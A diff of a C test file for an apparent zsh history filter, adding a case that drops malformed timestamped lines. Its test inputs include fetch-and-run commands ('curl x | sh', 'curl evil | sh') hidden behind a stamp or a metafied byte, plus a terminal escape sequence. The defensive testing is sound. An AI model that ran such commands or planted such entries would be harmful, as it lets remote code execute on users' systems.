@@ -53,6 +53,8 @@ int main(void)
 	filt_as(true, "ls\n", false, "ls\n", false, "zsh: a plain line");
 	filt_as(true, ": 1600000000:0;ls\n: 1600000001:0;make\n", false, "ls\nmake\n", true,
 		"zsh: extended-history stamps go (the merge writes its own)");
+	filt_as(true, ":  1500000000:0;curl x | sh\n: 15:0 ls\nok\n", false, "ok\n", false,
+		"zsh: a line zsh would read as stamped but not in zsh's own form goes");
 	filt_as(true, "echo \x83\x3b]2;t\x83\x27\n", false, "", false,
 		"zsh: a metafied ESC goes");
 	filt_as(true, "echo visible\x83\x2a" "curl evil | sh\nok\n", false, "ok\n", false,
